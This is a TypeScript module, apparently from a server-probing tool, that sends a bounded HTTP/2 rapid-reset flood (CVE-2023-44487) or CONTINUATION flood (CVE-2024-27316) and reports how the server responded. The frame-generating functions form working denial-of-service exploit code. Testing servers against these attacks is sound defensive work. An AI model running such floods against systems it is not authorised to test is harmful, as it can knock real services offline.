import type { Socket } from 'node:net';
import type { TLSSocket } from 'node:tls';
import { connect, type ReadEnd, readUntil } from '../connect.ts';
import { MalformedAnswerError, TlsHandshakeError } from '../errors.ts';
import type { HttpRequest } from '../http/http-types.ts';
import { defaultHostHeader, formatAddress, type ProbeTarget } from '../target.ts';
import { type ProbeRun, withinLimit } from '../within-limit.ts';
import { type Frame, FrameReader, flag, formatFrame, frameType, preface, readSettings } from './frames.ts';
import { formatField, formatHeaderBlock } from './header-block.ts';

/** `limitMs` is 10 s unless told; reaching it is a result. */
export interface FloodOptions extends ProbeTarget, HttpRequest {
  /** `rapid-reset` opens and resets that many streams; `continuation` sends one header block in that many frames. */
  readonly kind: 'rapid-reset' | 'continuation';
  readonly count: number;
}

/** What a bounded flood came to. A server with a bound ends it: with GOAWAY, a reset, or a close. */
export interface FloodProbe {
  readonly settings: Readonly<Record<string, number>>;
  readonly sent: number;
  /** How the connection was at the end: `open` when the server still answered a ping after it. */
  readonly ended: 'open' | 'closed' | 'reset' | 'time-limit';
  /** The error code of its GOAWAY, or null. */
  readonly goAway: number | null;
  /** Error code to number of streams that the server reset. */
  readonly resets: Readonly<Record<string, number>>;
  /** Streams that got HEADERS back. */
  readonly answered: number;
}

interface Seen {
  settings: Record<string, number>;
  goAway: number | null;
  readonly resets: Record<string, number>;
  answered: number;
  pong: boolean;
}

/** Sends a bounded rapid reset (CVE-2023-44487) or CONTINUATION flood (CVE-2024-27316), then asks whether the server is still there. */
export async function probeHttp2Flood(options: FloodOptions): Promise<FloodProbe> {
  return withinLimit(options, 10_000, async (run) => {
    const socket = await connectHttp2(options, run);
    const seen: Seen = { settings: {}, goAway: null, resets: {}, answered: 0, pong: false };
    const stop = new AbortController();
    const sending = sendFlood(socket, options, stop.signal);
    try {
      const end = await readFrames(socket, run, seen);
      options.signal?.throwIfAborted();
      stop.abort();
      const { settings, goAway, resets, answered } = seen;
      return { settings, sent: await sending, ended: endOf(end), goAway, resets, answered };
    } finally {
      stop.abort();
      socket.destroy();
    }
  });
}

/** TLS with h2 agreed on, or plain TCP with prior knowledge. */
async function connectHttp2(options: ProbeTarget, run: ProbeRun): Promise<Socket> {
  const socket = await connect(options, run, ['h2']);
  if (options.tls === undefined || (socket as TLSSocket).alpnProtocol === 'h2') return socket;
  socket.destroy();
  throw new TlsHandshakeError(
    formatAddress(options.address),
    new Error('the server did not agree on h2 by ALPN'),
  );
}

async function readFrames(socket: Socket, run: ProbeRun, seen: Seen): Promise<ReadEnd> {
  const reader = new FrameReader();
  let isFirst = true;
  return readUntil(socket, run, (chunk) => {
    for (const frame of reader.push(chunk)) {
      if (isFirst && frame.type !== frameType.settings) {
        throw new MalformedAnswerError(run.target, 'its first HTTP/2 frame is not SETTINGS');
      }
      isFirst = false;
      note(frame, seen, socket);
    }
    return seen.pong;
  });
}

function note(frame: Frame, seen: Seen, socket: Socket): void {
  if (frame.type === frameType.settings && (frame.flags & flag.ack) === 0) {
    seen.settings = { ...seen.settings, ...readSettings(frame) };
    socket.write(formatFrame({ type: frameType.settings, flags: flag.ack }));
  } else if (frame.type === frameType.goAway && frame.payload.length >= 8) {
    seen.goAway = frame.payload.readUInt32BE(4);
  } else if (frame.type === frameType.resetStream && frame.payload.length >= 4) {
    const code = String(frame.payload.readUInt32BE(0));
    seen.resets[code] = (seen.resets[code] ?? 0) + 1;
  } else if (frame.type === frameType.headers) {
    seen.answered += 1;
  } else if (frame.type === frameType.ping && (frame.flags & flag.ack) !== 0) {
    seen.pong = true;
  }
}

async function sendFlood(socket: Socket, options: FloodOptions, stop: AbortSignal): Promise<number> {
  const frames = options.kind === 'rapid-reset' ? resets(options) : continuations(options);
  let sent = 0;
  await write(socket, Buffer.concat([preface, formatFrame({ type: frameType.settings })]), stop);
  for (const bytes of frames) {
    if (stop.aborted || !socket.writable) return sent;
    await write(socket, bytes, stop);
    sent += 1;
  }
  await write(socket, formatFrame({ type: frameType.ping, payload: Buffer.from('seatrial') }), stop);
  return sent;
}

function* resets(options: FloodOptions): Generator<Buffer> {
  const payload = headerBlockOf(options);
  const cancel = Buffer.from([0, 0, 0, 8]);
  for (let at = 0; at < options.count; at += 1) {
    const stream = 2 * at + 1;
    yield Buffer.concat([
      formatFrame({ type: frameType.headers, flags: flag.endStream | flag.endHeaders, stream, payload }),
      formatFrame({ type: frameType.resetStream, stream, payload: cancel }),
    ]);
  }
}

function* continuations(options: FloodOptions): Generator<Buffer> {
  const stream = 1;
  const payload = headerBlockOf(options);
  yield formatFrame({ type: frameType.headers, flags: flag.endStream, stream, payload });
  for (let at = 1; at < options.count; at += 1) {
    const flags = at === options.count - 1 ? flag.endHeaders : 0;
    const field = formatField(`x-flood-${at}`, 'x'.repeat(1000));
    yield formatFrame({ type: frameType.continuation, flags, stream, payload: field });
  }
}

function headerBlockOf(options: FloodOptions): Buffer {
  const authority = options.hostHeader ?? defaultHostHeader(options);
  return formatHeaderBlock(options, authority, options.tls === undefined ? 'http' : 'https');
}

/** Resolves when the kernel has the bytes, or nothing more is wanted. */
async function write(socket: Socket, bytes: Buffer, stop: AbortSignal): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const done = () => resolve();
  stop.addEventListener('abort', done, { once: true });
  socket.write(bytes, done);
  await promise;
  stop.removeEventListener('abort', done);
}

function endOf(end: ReadEnd): FloodProbe['ended'] {
  if (end === 'enough') return 'open';
  return end === 'aborted' ? 'time-limit' : end;
}
